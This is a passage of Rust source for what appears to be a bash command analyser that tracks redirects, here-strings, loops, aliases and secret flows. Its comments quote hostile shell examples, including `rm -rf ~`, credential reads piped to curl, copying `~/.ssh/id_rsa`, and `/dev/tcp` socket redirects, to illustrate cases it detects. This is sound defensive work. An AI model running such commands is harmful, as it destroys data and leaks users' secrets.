            _ => Binding::Known(values),
        }
    }

    /// The text a here-string feeds: its word expanded as bash expands it, without
    /// splitting or globbing (`<<< $'a\nb'` is two lines, `<<< "$(curl …)"` what only run
    /// time knows); unreadable when the parser took a word after it for a part of it (`cat >
    /// f <<< x y`, which tree-sitter-bash reads only respelled, see `bash_tree::parse`): the
    /// shell gives that word to the command
    fn herestring<N: Syntax>(&self, node: N, source: &str) -> Result<String, Unreadable> {
        let mut words = node
            .named_children()
            .filter(|child| child.kind() != "file_descriptor");
        let raw = match (words.next(), words.next()) {
            (Some(word), None) => text(word, source),
            (None, _) => return Ok(String::new()),
            (Some(_), Some(_)) => return Err(Unreadable::DroppedWord),
        };
        // A word of a loop's values feeds a text per pass: each is read, a line after the
        // other (`for s in 'echo hi' 'rm -rf ~'; do bash <<< "$s"`).
        let passes = expand::passes(raw, &self.env());
        let expanded: Vec<String> = passes.iter().flatten().cloned().collect();
        let unknown: Vec<UnknownWord> = expanded
            .iter()
            .filter_map(|word| UnknownWord::decode(word))
            .collect();
        Ok(match (expanded.as_slice(), unknown.first()) {
            ([one], _) => one.clone(),
            (_, None) => passes
                .iter()
                .map(|words| words.join(" "))
                .collect::<Vec<_>>()
                .join("\n"),
            (_, Some(first)) => UnknownWord {
                prefix: String::new(),
                suffix: String::new(),
                split: true,
                name: false,
                own_code: unknown.iter().all(|word| word.own_code),
                one_word: false,
                why: first.why.clone(),
            }
            .encode(),
        })
    }

    /// Records the values a `for` loop's variable takes; the commands of its list were read
    /// from `start` on
    fn for_loop<N: Syntax>(&mut self, node: N, source: &str, start: usize) {
        let Some(variable) = node.field("variable").next() else {
            return;
        };
        let name = text(variable, source).to_owned();
        let mut values = Vec::new();
        let mut raw = Vec::new();
        let mut carried = Vec::new();
        for value in node.field("value") {
            raw.push(text(value, source));
            expand::word(text(value, source), &self.env(), &mut values);
            self.environment_reads(text(value, source), &mut carried);
        }
        for value in &values {
            self.evaluated.text(value);
        }
        // `for f in $(find . -name '*.pyc')`: a list that is one substitution of a listing
        // takes the names it lists, a name a line, as `xargs` and `read` take them.
        let listing = || match raw.as_slice() {
            [one] if is_substitution(one) => {
                let upstream: Vec<usize> = (start..self.commands.len()).collect();
                self.listed_names(&upstream)
                    .filter(|names| !names.is_empty())
            }
            _ => None,
        };
        let binding = match values.iter().find_map(|word| UnknownWord::decode(word)) {
            _ if raw.is_empty() => {
                Binding::Unknown(format!("`${name}` takes the arguments given at run time"))
            }
            Some(unknown) => listing().map_or(Binding::Unknown(unknown.why), Binding::Known),
            None => Binding::Known(values),
        };
        // The variable of a loop that is a reference sets what it refers to.
        let name = expand::referenced(&self.vars, &name);
        self.carried.push((name.clone(), carried));
        self.bind(name, binding);
    }

    /// What words are expanded against
    fn env(&self) -> Env<'_> {
        Env {
            vars: &self.vars,
            context: &self.context,
            params: self.params.as_ref(),
            spent: &self.expanded,
            input: self
                .input_text
                .as_deref()
                .filter(|text| !expand::is_unknown(text)),
        }
    }

    /// A statement with redirects: output targets, here-documents and here-strings
    fn redirected<N: Syntax>(
        &mut self,
        node: N,
        at: At<'_, '_>,
        stdin: Option<String>,
    ) -> Result<(), Unreadable> {
        let mut redirects = Vec::new();
        let mut script = stdin;
        let mut continuations = Vec::new();
        let redirect_nodes: Vec<N> = node.field("redirect").collect();
        let file_redirects: Vec<Option<FileRedirect<N>>> = redirect_nodes
            .iter()
            .map(|redirect| FileRedirect::of(*redirect, at.source))
            .collect();
        // tree-sitter-bash drops a lone `-` before a descriptor's redirect: `cat - 2>&1` has
        // the `-` in no node, only in the text between the command and its redirect; and it
        // takes the words after a redirect's target for more targets (`> f b`).
        let body_is_command = node
            .field("body")
            .next()
            .is_some_and(|body| body.kind() == "command");
        let mut owed = Vec::new();
        let mut previous_end = node.field("body").next().map(|body| body.byte_range().end);
        for (redirect, file) in redirect_nodes.iter().zip(&file_redirects) {
            let start = redirect.byte_range().start;
            let gap = previous_end.and_then(|end| at.source.get(end..start));
            if gap.is_some_and(|gap| gap.trim_matches(is_blank) == "-") {
                owed.push("-".to_owned());
            }
            if let Some(file) = file {
                owed.extend(
                    file.after
                        .iter()
                        .map(|word| text(*word, at.source).to_owned()),
                );
            }
            previous_end = Some(redirect.byte_range().end);
        }
        let owes = !owed.is_empty();
        if owes {
            // Words for a compound command, or owed while others still wait for theirs (in
            // a substitution of a target, walked first), would be lost.
            if !body_is_command || self.owed_words.is_some() {
                return Err(if owed.iter().all(|word| word == "-") {
                    Unreadable::DroppedWord
                } else {
                    Unreadable::WordAfterRedirect
                });
            }
            // A substitution there would run commands the walk does not reach from here.
            if owed
                .iter()
                .any(|word| ["$(", "`", "<(", ">("].iter().any(|run| word.contains(run)))
            {
                return Err(Unreadable::WordAfterRedirect);
            }
            let body_start = node
                .field("body")
                .next()
                .map_or(0, |body| body.byte_range().start);
            self.owed_words = Some((place_of(at.source, body_start), owed));
        }
        // tree-sitter-bash hangs the redirects of `a && b > f` on the whole list, but bash
        // gives them to its last command, opened when that command runs: after a `cd` before
        // it (`cd /etc && echo x >> hosts` writes `/etc/hosts`). The rest runs first.
        let mut body = node.field("body").next();
        while let Some(list) = body.filter(|body| body.kind() == "list") {
            let parts: Vec<N> = list.named_children().collect();
            let Some((last, first)) = parts.split_last() else {
                break;
            };
            for part in first {
                self.node(*part, at, None)?;
            }
            body = Some(*last);
        }
        let mut backticks = Vec::new();
        for (redirect, file) in redirect_nodes.iter().zip(&file_redirects) {
            match redirect.kind() {
                "heredoc_redirect" => {
                    let mut expands = true;
                    for part in redirect.named_children() {
                        match part.kind() {
                            "heredoc_body" => {
                                let body = text(part, at.source);
                                if expands {
                                    self.expand_here_document(body);
                                    backticks.extend(unparsed_backticks(part, at.source));
                                }
                                script = Some(body.to_owned());
                            }
                            // Any quoting of the delimiter (`'EOF'`, `"EOF"`, `\EOF`) leaves
                            // the body as written.
                            "heredoc_start" => {
                                expands = !text(part, at.source).contains(['\'', '"', '\\'])
                            }
                            "heredoc_end" => {}
                            "file_redirect" => {
                                if let Some(file) = FileRedirect::of(part, at.source) {
                                    redirects.extend(self.file_redirect(&file, at.source)?)
                                }
                            }
                            _ => continuations.push(part),
                        }
                    }
                }
                "herestring_redirect" => script = Some(self.herestring(*redirect, at.source)?),
                _ => {
                    if let Some(file) = file {
                        redirects.extend(self.file_redirect(file, at.source)?)
                    }
                }
            }
        }
        let script_text = script.clone();
        // The last input redirect is the one the shell leaves in place; a socket on any
        // descriptor may become the input by a later `0>&N`, so it counts first.
        let input = file_redirects
            .iter()
            .flatten()
            .find_map(|file| self.socket_redirect(file, at.source))
            .or_else(|| {
                file_redirects
                    .iter()
                    .flatten()
                    .filter_map(|file| self.redirected_input(file, at.source))
                    .last()
            });
        // `cat <<EOF` with `` `cmd` `` in its body runs cmd first, and reads its output.
        let fed: Vec<usize>;
        let at = if backticks.is_empty() {
            at
        } else {
            let mut upstream = at.upstream.to_vec();
            for script in &backticks {
                upstream.extend(self.substituted(script, at)?);
            }
            fed = upstream;
            At {
                upstream: &fed,
                ..at
            }
        };
        let outer_input = std::mem::replace(&mut self.input, input);
        let walked = self.around(
            &redirect_nodes,
            &redirects,
            at,
            |reader, upstream| match body {
                Some(body) => reader.node(body, At { upstream, ..at }, script),
                // A redirect with no command (`> ~/.bashrc`) truncates or creates its file as
                // `: > ~/.bashrc` does: it is read as that command.
                None => {
                    let command = simple_command(
                        ":".to_owned(),
                        Vec::new(),
                        upstream,
                        &reader.context,
                        &reader.made_links,
                    );
                    reader.push(command)
                }
            },
        );
        self.input = outer_input;
        let (upstream, created) = walked?;
        // Words owed to a command the walk never reached would be words no test sees.
        if owes && self.owed_words.take().is_some() {
            return Err(Unreadable::DroppedWord);
        }
        // `cat <<EOF | sh`: the here-document is what the rest of the pipeline reads.
        let forwarded = match self.commands.get(created.clone()) {
            Some([cat]) if cat.program == "cat" && cat.operands.is_empty() => script_text,
            _ => None,
        };
        let mut after = upstream.into_owned();
        after.extend(created);
        for part in continuations {
            self.node(
                part,
                At {
                    upstream: &after,
                    ..at
                },
                forwarded.clone(),
            )?;
        }
        Ok(())
    }

    /// Notes what the body of a here-document whose delimiter is not quoted hands its
    /// command, when that differs from the body as written
    fn expand_here_document(&mut self, body: &str) {
        if !body.contains(['$', '`', '\\']) {
            return;
        }
        let mut texts = Vec::new();
        expand::here_document(body, &self.env(), &mut texts);
        texts.retain(|expanded| expanded != body);
        if !texts.is_empty() {
            self.here_documents.push((body.to_owned(), texts));
        }
    }

    /// Reads `script`, a command substitution's text, as a substitution runs: in a subshell,
    /// whose `cd` and assignments end with it; the commands it made
    fn substituted(&mut self, script: &str, at: At<'_, '_>) -> Result<Range<usize>, Unreadable> {
        let cwd = self.context.cwd.clone();
        let vars = self.vars.len();
        let start = self.commands.len();
        let depth = Depth {
            scripts: at.depth.scripts + 1,
            ..at.depth
        };
        // It reads the input of the shell around it, as `$(…)` does.
        let input = self.input_text.clone();
        let read = self.script_fed(script, &[], depth, input);
        self.context.cwd = cwd;
        self.vars.truncate(vars);
        read?;
        Ok(start..self.commands.len())
    }

    /// The network socket a redirect opens (`>& /dev/tcp/h/80`, `3<> /dev/udp/h/53`), of any
    /// operator and descriptor, its target expanded as bash expands it (`>& $H`)
    fn socket_redirect<N: Syntax>(
        &self,
        file: &FileRedirect<N>,
        source: &str,
    ) -> Option<RedirectedInput> {
        // Any word: tree-sitter-bash may hang a word after the path on the redirect.
        file.target
            .iter()
            .chain(&file.after)
            .flat_map(|target| {
                let mut words = Vec::with_capacity(1);
                expand::word(text(*target, source), &self.env(), &mut words);
                words
            })
            .find(|path| {
                knowledge::NETWORK_DEVICES
                    .iter()
                    .any(|device| path.starts_with(device))
            })
            .map(RedirectedInput::Socket)
    }

    /// Where an input redirect points (`< f`, `<&3`, `< /dev/fd/3`); `None` for outputs,
    /// the standard input itself and process substitutions, which feed commands instead
    fn redirected_input<N: Syntax>(
        &self,
        file: &FileRedirect<N>,
        source: &str,
    ) -> Option<RedirectedInput> {
        let [target] = file.target.as_slice() else {
            return None;
        };
        let raw = text(*target, source);
        match file.operator.as_str() {
            // A descriptor named by an expansion (`<&"${COPROC[0]}"`) is one only run time
            // knows; `<&0` is the input itself and `<&-` closes it.
            "<&" | "0<&" => {
                let mut words = Vec::with_capacity(1);
                expand::word(raw, &self.env(), &mut words);
                let descriptor = match words.as_slice() {
                    [one] if !expand::is_unknown(one) => one.clone(),
                    _ => raw.to_owned(),
                };
                (descriptor != "0" && descriptor != "-")
                    .then_some(RedirectedInput::Descriptor(descriptor))
            }
            "<" | "0<" | "<>" | "0<>" if target.kind() != "process_substitution" => {
                let mut words = Vec::with_capacity(1);
                expand::word(raw, &self.env(), &mut words);
                let file = match words.as_slice() {
                    [one] => one.clone(),
                    _ => unquote(raw),
                };
                match descriptor_of(&file) {
                    Some(descriptor) => Some(RedirectedInput::Descriptor(descriptor)),
                    None if STDIN_PATHS.contains(&file.as_str()) => None,
                    None => Some(RedirectedInput::File(file)),
                }
            }
            _ => None,
        }
    }

    /// The output redirects to a file (`> f`, `2>> f`, `&> f`), one per file its target may
    /// be; none for inputs, descriptors (`2>&1`) and process substitutions, which feed
    /// commands instead; unreadable when the parser splits its target in two (`> 'a'\b`),
    /// where the shell writes to one file
    fn file_redirect<N: Syntax>(
        &self,
        file: &FileRedirect<N>,
        source: &str,
    ) -> Result<Vec<Redirect>, Unreadable> {
        let operator = &file.operator;
        let mut targets = file.target.clone();
        // tree-sitter-bash may take the descriptor of the next redirect for a target of
        // this one (`> f 0>&1`, read as `> f 0` and `>&1`): a number after the file is
        // that descriptor, not part of the file's name.
        if targets.len() > 1 {
            targets.retain(|target| target.kind() != "number");
        }
        let raw = match targets.as_slice() {
            [] => return Ok(Vec::new()),
            _ if targets
                .iter()
                .any(|target| matches!(target.kind(), "process_substitution" | "number")) =>
            {
                return Ok(Vec::new())
            }
            [target] => text(*target, source),
            _ => return Err(Unreadable::JoinedWord),
        };
        let mut words = Vec::with_capacity(1);
        expand::word(raw, &self.env(), &mut words);
        // A target of a loop's values is a file per pass (`for f in a /etc/passwd; do echo
        // x > "$f"`); one that splits into several words bash refuses as ambiguous, and each
        // is read as the file it may be.
        if words.is_empty() {
            words.push(unquote(raw));
        }
        words.dedup();
        let mut redirects = Vec::with_capacity(words.len());
        for target in words {
            if !operator.contains('>') || (operator.ends_with('&') && is_descriptor(&target)) {
                continue;
            }
            // bash matches a pattern as a redirect's target against the files there are.
            let target = if expand::is_unknown(&target) {
                target
            } else if let Some(pattern) = pattern_file(&target, &self.context) {
                pattern.encode()
            } else {
                self.follow(&normalise(&target, &self.context))
            };
            redirects.push(Redirect {
                operator: operator.clone(),
                target,
            });
        }
        Ok(redirects)
    }

    /// A simple command: its words, the commands its substitutions run, and what it wraps
    fn command<N: Syntax>(
        &mut self,
        node: N,
        at: At<'_, '_>,
        stdin: Option<String>,
    ) -> Result<(), Unreadable> {
        // Room for the words of most commands, so the vector seldom grows.
        let mut words = Vec::with_capacity(8);
        let mut redirects = Vec::new();
        let mut script = stdin;
        // The parts that may hold a substitution, for `around`: few commands have any.
        let mut parts = Vec::new();
        let mut previous_end = None;
        // `NAME=value program`: the program's own environment.
        let mut command_env = Vars::new();
        // The commands whose output a variable in the words holds (`k=$(cat f); curl -d "$k"`).
        let mut fed = Vec::new();
        let mut secret_words = SecretWords::default();
        // `time ( … )`, `coproc ( … )`: tree-sitter-bash hangs the subshell bash runs on the
        // command, as if it were a word.
        let mut subshells = Vec::new();
        let mut input = None;
        // Whether a word takes several passes (a loop's values).
        let mut several = false;
        for child in node.named_children() {
            let redirect = matches!(child.kind(), "herestring_redirect" | "file_redirect");
            let range = child.byte_range();
            // A word that starts where the part before it ends is, for the shell, the rest
            // of that part's word (`'r'\m`, `X='a'\b`, `>'f'\g`): tree-sitter-bash ends a word
            // at a `\` after a quote, so the reading would miss the word the shell runs.
            if !redirect && child.kind() != "comment" && previous_end == Some(range.start) {
                return Err(Unreadable::JoinedWord);
            }
            previous_end = Some(range.end);
            let child_text = text(child, at.source);
            // `exec {fd}>&-`, `{a[1]}<f`: the variable of a redirect's descriptor, which
            // tree-sitter-bash reads as a word; a redirect that opens one sets it.
            let after = at.source.get(range.end..).unwrap_or_default();
            if let Some(name) = descriptor_variable(child_text, after) {
                if !after.starts_with(">&-") && !after.starts_with("<&-") {
                    let value = descriptor_number(name);
                    let name = expand::referenced(&self.vars, name);
                    self.bind(name, Binding::Known(vec![value]));
                }
                continue;
            }
            match child.kind() {
                "variable_assignment" => {
                    let assignment = child_text;
                    self.evaluated
                        .place(evaluated::node_place(child.kind(), assignment));
                    if let Some((name, raw)) = assignment.split_once('=') {
                        // `BASHOPTS=dotglob bash -c '…'`: the shell starts with the option.
                        self.dotglob |= name == "BASHOPTS";
                        command_env.push((name.to_owned(), self.value_of(raw).bounded(name)));
                    }
                }
                "comment" => {}
                "subshell" => subshells.push(child),
                "herestring_redirect" => {
                    self.environment_reads(child_text, &mut secret_words.names);
                    script = Some(self.herestring(child, at.source)?)
                }
                "file_redirect" => {
                    let Some(file) = FileRedirect::of(child, at.source) else {
                        continue;
                    };
                    // `< x.sh bash`: tree-sitter-bash hangs a leading redirect on the command.
                    if let Some(redirected) = self.redirected_input(&file, at.source) {
                        input = Some(redirected);
                    }
                    if !file.after.is_empty() {
                        return Err(Unreadable::WordAfterRedirect);
                    }
                    redirects.extend(self.file_redirect(&file, at.source)?)
                }
                _ => {
                    let word = child_text;
                    if word.contains('$') {
                        self.evaluated.place(evaluated::word_place(word));
                        self.fed_into(word, &mut fed);
                        secret_words.expanded |= self.expands_a_secret(word);
                        secret_words.hidden |= self.hides_a_secret(word);
                        self.environment_reads(word, &mut secret_words.names);
                    }
                    several |= expand::word_of_passes(word, &self.env(), &mut words);
                    // `: "${D:=~}"` sets `D` for the words and commands after it.
                    if word.contains("${") {
                        for (name, given, colon) in expand::assigned_defaults(word) {
                            let colon = if colon { ":" } else { "" };
                            let binding = self.value_of(&format!("${{{name}{colon}-{given}}}"));
                            let name = expand::referenced(&self.vars, name);
                            self.bind(name, binding);
                        }
                    }
                }
            }
            if may_substitute(child_text) {
                parts.push(child);
            }
        }
        // A command whose words take several passes runs once per pass: each is read as it
        // runs, besides the words of every pass side by side.
        let mut passes = if several {
            let raws: Vec<&str> = node
                .named_children()
                .filter(|child| is_command_word(child.kind()))
                .filter(|child| {
                    let after = at.source.get(child.byte_range().end..).unwrap_or_default();
                    descriptor_variable(text(*child, at.source), after).is_none()
                })
                .map(|child| text(child, at.source))
                .collect();
            expand::command_passes(&raws, &self.env())
        } else {
            Vec::new()
        };
        let here = place_of(at.source, node.byte_range().start);
        let owed = match self.owed_words.take() {
            Some((place, owed)) if place == here => owed,
            other => {
                self.owed_words = other;
                Vec::new()
            }
        };
        for raw in owed {
            let start = words.len();
            expand::word(&raw, &self.env(), &mut words);
            for pass in &mut passes {
                pass.extend(words.get(start..).unwrap_or_default().iter().cloned());
            }
        }
        self.around(&parts, &redirects, at, |reader, upstream| {
            let outer = std::mem::replace(&mut reader.command_env, command_env);
            let outer_secret = std::mem::replace(&mut reader.secret_words, secret_words);
            let outer_input = input.map(|input| reader.input.replace(input));
            let with_fed: Vec<usize>;
            let upstream = if fed.is_empty() {
                upstream
            } else {
                with_fed = upstream.iter().chain(&fed).copied().collect();
                &with_fed
            };
            let at = At { upstream, ..at };
            let several = !passes.is_empty();
            let result = reader
                .each_pass(passes, at, script.as_deref())
                .and_then(|()| {
                    let start = reader.commands.len();
                    let result = reader.simple(words, at, script);
                    if several {
                        reader.side_by_side.push(start..reader.commands.len());
                    }
                    result
                });
            reader.command_env = outer;
            reader.secret_words = outer_secret;
            if let Some(outer_input) = outer_input {
                reader.input = outer_input;
            }
            result
        })?;
        for subshell in subshells {
            self.node(subshell, at, None)?;
        }
        Ok(())
    }

    /// Reads the command of each pass, `passes`, as it runs, from the state of the line
    /// before it: what a pass changes (the folder, the parameters, aliases, functions) is
    /// left to the reading of the words of every pass together, which follows
    fn each_pass(
        &mut self,
        passes: Vec<Vec<String>>,
        at: At<'_, '_>,
        stdin: Option<&str>,
    ) -> Result<(), Unreadable> {
        for words in passes {
            let cwd = self.context.cwd.clone();
            let params = self.params.clone();
            let lengths = (
                self.vars.len(),
                self.aliases.len(),
                self.hashed.len(),
                self.functions.len(),
            );
            let result = self.simple(words, at, stdin.map(str::to_owned));
            self.context.cwd = cwd;
            self.params = params;
            self.vars.truncate(lengths.0);
            self.aliases.truncate(lengths.1);
            self.hashed.truncate(lengths.2);
            self.functions.truncate(lengths.3);
            result?;
        }
        Ok(())
    }

    /// Walks the input substitutions of `parts` (`$(...)`, `<(...)`), then `walk` with them
    /// upstream, gives every command it created `redirects`, then walks the output ones
    /// (`>(...)`); returns the upstream `walk` had and the commands it created
    fn around<'u, N: Syntax>(
        &mut self,
        parts: &[N],
        redirects: &[Redirect],
        at: At<'_, 'u>,
        walk: impl FnOnce(&mut Self, &[usize]) -> Result<(), Unreadable>,
    ) -> Result<(Cow<'u, [usize]>, Range<usize>), Unreadable> {
        let (inputs, outputs) = substitutions(parts);
        let mut upstream = self.with_inputs(&inputs, at)?;
        let backticks = expansion_backticks(parts, at.source);
        if !backticks.is_empty() {
            let mut fed = upstream.into_owned();
            for script in &backticks {
                fed.extend(self.substituted(script, at)?);
            }
            upstream = Cow::Owned(fed);
        }
        let start = self.commands.len();
        walk(self, &upstream)?;
        let created = start..self.commands.len();
        // A redirect of a list (`ln -s ~ x && echo > x/f`) is read before the list; a link
        // the list made on its way is followed now.
        let followed: Vec<Redirect>;
        let redirects = if self.made_links.is_empty() {
            redirects
        } else {
            followed = redirects
                .iter()
                .map(|redirect| Redirect {
                    operator: redirect.operator.clone(),
                    target: self.follow(&redirect.target),
                })
                .collect();
            &followed
        };
        // What a hook file written here runs later, when git or husky runs it
        let mut later = Vec::new();
        for redirect in redirects {
            if !expand::is_unknown(&redirect.target) {
                let printed = writes_file(&redirect.operator)
                    .then(|| self.printed_literal(created.start))
                    .flatten();
                if writes_file(&redirect.operator) && knowledge::runs_later(&redirect.target) {
                    // An agent's settings are no script: what their hooks run is not read.
                    later.push(
                        printed
                            .clone()
                            .filter(|_| !knowledge::configures_agent(&redirect.target))
                            .ok_or_else(|| redirect.target.clone()),
                    );
                }
                // A file the redirect empties first holds what the commands print, when that
                // is literal text.
                if matches!(redirect.operator.as_str(), ">" | ">|" | "1>" | "1>|") {
                    if let Some(text) = printed {
                        self.written_texts.push((self.written.len(), text));
                    }
                }
                self.written.push(redirect.target.clone());
                if writes_file(&redirect.operator) {
                    let mut writers: Vec<usize> = created.clone().collect();
                    for command in self.commands.get(created.clone()).into_iter().flatten() {
                        writers.extend(&command.stdin_from);
                    }
                    self.output_files.push((redirect.target.clone(), writers));
                }
            }
        }
        for command in self.commands.get_mut(created.clone()).into_iter().flatten() {
            for redirect in redirects {
                match UnknownWord::decode(&redirect.target) {
                    Some(unknown) => command.unknown.push(Unknown {
                        part: Part::Redirect(target(&unknown, &self.context)),
                        why: unknown.why,
                    }),
                    None => command.redirects.push(redirect.clone()),
                }
            }
            // `base64 ~/.ssh/id_rsa > k.txt`: what the command writes of a secret, k.txt carries.
            let written = redirects
                .iter()
                .filter(|redirect| writes_file(&redirect.operator))
                .map(|redirect| &redirect.target);
            self.secret_copies
                .note(&command.program, &command.paths, written);
        }
        self.outputs(&outputs, &upstream, created.clone(), at)?;
        // A hook runs with no hook call to judge it: what it will run is read now, and a
        // hook whose text the line does not give is only known when it runs.
        let unfed = At {
            upstream: &[],
            ..at
        };
        for hook in later {
            match hook {
                Ok(text) => self.nested(&text, unfed)?,
                Err(file) => self.push(SimpleCommand {
                    unknown: vec![Unknown {
                        part: Part::Command,
                        why: unknown_hook(&file),
                    }],
                    ..SimpleCommand::default()
                })?,
            }
        }
        Ok((upstream, created))
    }

    /// Walks substitutions whose output a command reads (`$(...)`, `<(...)`), and returns
    /// the command's upstream with them added
    fn with_inputs<'u, N: Syntax>(
        &mut self,
        inputs: &[N],
        at: At<'_, 'u>,
    ) -> Result<Cow<'u, [usize]>, Unreadable> {
        // Most commands have no substitution: they share the upstream they were given.
        if inputs.is_empty() {
            return Ok(Cow::Borrowed(at.upstream));
        }
        // Room for a command or two per substitution spares growing the list.
        let mut upstream = Vec::with_capacity(at.upstream.len() + 2 * inputs.len());
        upstream.extend_from_slice(at.upstream);
        for input in inputs {
            let start = self.commands.len();
            self.node(*input, at, self.input_text.clone())?;
            upstream.extend(start..self.commands.len());
        }
        Ok(Cow::Owned(upstream))
    }

    /// Walks `>(...)` substitutions, which read the output of the commands just created
    fn outputs<N: Syntax>(
        &mut self,
        outputs: &[N],
        upstream: &[usize],
        created: Range<usize>,
        at: At<'_, '_>,
    ) -> Result<(), Unreadable> {
        if outputs.is_empty() {
            return Ok(());
        }
        let mut feeding = upstream.to_vec();
        feeding.extend(created);
        for output in outputs {
            self.children(
                *output,
                At {
                    upstream: &feeding,
                    ..at
                },
            )?;
        }
        Ok(())
    }

    /// Records the command `words` names, then the commands it runs in turn: the program a
    /// wrapper runs, the script of `sh -c`, `eval` or a shell's input, the command of `find -exec`
    fn simple(
        &mut self,
        words: Vec<String>,
        at: At<'_, '_>,
        stdin: Option<String>,
    ) -> Result<(), Unreadable> {
        // `env -C DIR` moves the program it runs, and only that one. The folder before it is
        // kept in a spare buffer, which the next command reuses rather than copy it anew.
        let mut cwd = self.spare_cwds.pop().unwrap_or_default();
        cwd.clone_from(&self.context.cwd);
        // A coprocess's input is its own command's, the scripts that command runs included.
        let outer_coprocess = self.coprocess.clone();
        let result = self.simple_commands(words, at, stdin);
        self.coprocess = outer_coprocess;
        if self.context.cwd != cwd && !result.as_ref().is_ok_and(|moved| *moved) {
            std::mem::swap(&mut self.context.cwd, &mut cwd);
        }
        self.spare_cwds.push(cwd);
        result.map(|_| ())
    }

    /// [`Reader::simple`]; whether a `cd` moved the directory for the commands after it
    fn simple_commands(
        &mut self,
        words: Vec<String>,
        at: At<'_, '_>,
        stdin: Option<String>,
    ) -> Result<bool, Unreadable> {
        let mut args = words;
        // Wrappers share their input with what they run: a client behind one reads it too.
        let literal_input = stdin.clone();
        let mut stdin = stdin;
        let mut aliased = false;
        let mut moved = false;
        // Whether the program is the command's own first word, not one a wrapper runs: only
        // that word calls a function (`command f`, `sudo f` run a program of that name).
        let mut own_word = true;
        // `xargs -a ~/.git-credentials curl …`: the file `xargs` takes its words from is read,
        // as those words, by what it runs (`xargs` lists it among its own operands).
        let mut arg_files: Vec<String> = Vec::new();
        loop {
            let wrapped_by_xargs = !arg_files.is_empty();
            // The words after the program stay in the vector they came in.
            if args.is_empty() {
                return Ok(moved);
            }
            let first = args.remove(0);
            // An alias defined on the line is replaced by its value, once.
            let alias = self
                .aliases
                .iter()
                .rev()
                .find(|(name, _)| name.as_ref().is_none_or(|name| *name == first));
            if let Some((name, value)) = alias {
                if !aliased {
                    aliased = true;
                    // bash replaces an alias's text before it parses the line: a value with
                    // more than words (`a && b`, `x | y`, quotes) is read as the script it
                    // makes with the words after it.
                    if name.is_some() && !is_plain_words(value) && !expand::is_unknown(value) {
                        let value = value.clone();
                        match alias_script(&value, &args, literal_input.as_deref()) {
                            Some(script) => {
                                self.alias_body(&first, &script, at)?;
                                return Ok(true);
                            }
                            None => {
                                let why = format!(
                                    "the alias `{first}` is given words only known at run time"
                                );
                                args = vec![unknown_path(why).encode()];
                                continue;
                            }
                        }
                    }
                    let mut replaced = Vec::new();
                    if name.is_none() {
                        replaced.push(
                            unknown_path(format!(
                                "`{first}` may be an alias whose name only run time knows"
                            ))
                            .encode(),
                        );
                    } else if expand::is_unknown(value) {
                        replaced.push(value.clone());
                    } else {
                        for raw in value.split_whitespace() {
                            expand::word(raw, &self.env(), &mut replaced);
                        }
                    }
                    replaced.append(&mut args);
                    args = replaced;
                    continue;
                }
            }
            // bash looks a function up before the table of `hash` and the `PATH`.
            let body = own_word
                .then(|| {
                    self.functions
                        .iter_mut()
                        .rev()
                        .find(|function| function.name == first)
                })
                .flatten()
                .map(|function| {
                    function.called = true;
                    function.body.clone()
                });
            if let Some(body) = body {
                self.call(&first, &body, &args, at, literal_input.clone())?;
            }
            let first = self.hashed_as(first);
            // The program as written: `/tmp/c` runs the file `/tmp/c`, whose name is `c`.
            let written_as = first.clone();
            let (program, unknown_program) = program_of(first);
            // `git-push`, `hub push`, `coreutils --coreutils-prog=rm`: the program they are.
            let (program, args_called) = knowledge::called_as(program, args);
            args = args_called;
            let with_statements: Vec<usize>;
            let at = match self.statement_input(
                &program,
                &args,
                literal_input.as_deref(),
                at.upstream,
            )? {
                Some(input) => {
                    with_statements = at.upstream.iter().copied().chain([input]).collect();
                    At {
                        upstream: &with_statements,
                        ..at
                    }
                }
                None => at,
            };
            if program == "git" {
                if let Some(rewritten) = git_alias(&args) {
                    match rewritten {
                        GitAlias::Words(words) => args = words,
                        GitAlias::Script(script) => self.nested(&script, at)?,
                    }
                }
            }
            if program == "alias" {
                self.define_aliases(&args);
            }
            if program == "hash" {
                self.hash_names(&args);
            }
            if changes_parameters(&program, &args) {
                // In a loop, each pass may change them anew: only run time knows them.
                let once = self.loops == 0;
                let set = (program == "set").then(|| set_parameters(&args)).flatten();
                self.params = match set {
                    // Parameters grown past what the reader follows (`set -- "$@" "$@"` over and
                    // over) are only known at run time.
                    Some(words) if words.len() > expand::MAX_WORDS => None,
                    Some(words) => once.then(|| Params {
                        zero: self.params.as_ref().and_then(|params| params.zero.clone()),
                        args: words.to_vec(),
                    }),
                    None => self
                        .params
                        .take()
                        .filter(|_| once)
                        .and_then(|params| shifted(params, &program, &args)),
                };
            }
            // `read CDPATH`, `printf -v CDPATH /`: set, to what only run time knows.
            // `printf -v q '%s' x` sets what it would print.
            let printed = (program == "printf")
                .then(|| crate::printf::assigned(&args, expand::is_unknown))
                .flatten();
            // `find src -name '*.rs' | while read -r f`: one name a listing prints, a line
            // each, as `xargs` takes them (`mapfile` takes them all).
            let reads_input = knowledge::INPUT_READERS.contains(&program.as_str());
            let read_listed = (reads_input && stdin.is_none())
                .then(|| self.listed_names(at.upstream))
                .flatten();
            if let Some(name) = crate::wrapper::descriptor_array(&program, &args) {
                let mut array = expand::Array::default();
                for index in 0..2 {
                    array.set(Some(index), descriptor_number(name));
                }
                self.coprocess = Some(name.to_owned());
                self.bind(name.to_owned(), Binding::Array(array));
            }
            let names = knowledge::variables_set(&program, &args);
            // What `read k < f` or `… | while read -r l` sets holds what reached it: a
            // command using `$k` reads it, as it would `k=$(cat f)`.
            let input_held: Vec<String> = if reads_input {
                names.iter().map(|name| (*name).to_owned()).collect()
            } else {
                Vec::new()
            };
            for &name in &names {
                // `printf -v 'a[1]' …`, `read 'a[1]'`: an element set, which leaves the whole
                // array only known at run time.
                if let Some((array, _)) = name.split_once('[') {
                    let why = format!("`${{{name}}}` is set by `{program}` at run time");
                    let array = expand::referenced(&self.vars, array);
                    self.vars.push((array, Binding::Unknown(why)));
                    continue;
                }
                let binding = match (&printed, &read_listed) {
                    (Some((set, value)), _) if *set == name => Binding::Known(vec![value.clone()]),
                    (_, Some(listed)) if names.len() == 1 => Binding::Known(listed.clone()),
                    _ => Binding::Unknown(format!("`${name}` is set by `{program}` at run time")),
                };
                let name = expand::referenced(&self.vars, name);
                // `printf -v v %s "$KEY"`, `read v <<< "$KEY"`: set from what its words expand.
                self.carried
                    .push((name.clone(), self.secret_words.names.clone()));
                self.bind(name, binding);
            }
            let env = (program == "env").then(|| env_options(&args));
            if let Some(dir) = env.as_ref().and_then(|env| env.chdir.as_ref()) {
                self.context.cwd = self.path(dir, false).ok();
            }
            // `env -S 'rm -rf ~'`: env's own words are its options, the string among them.
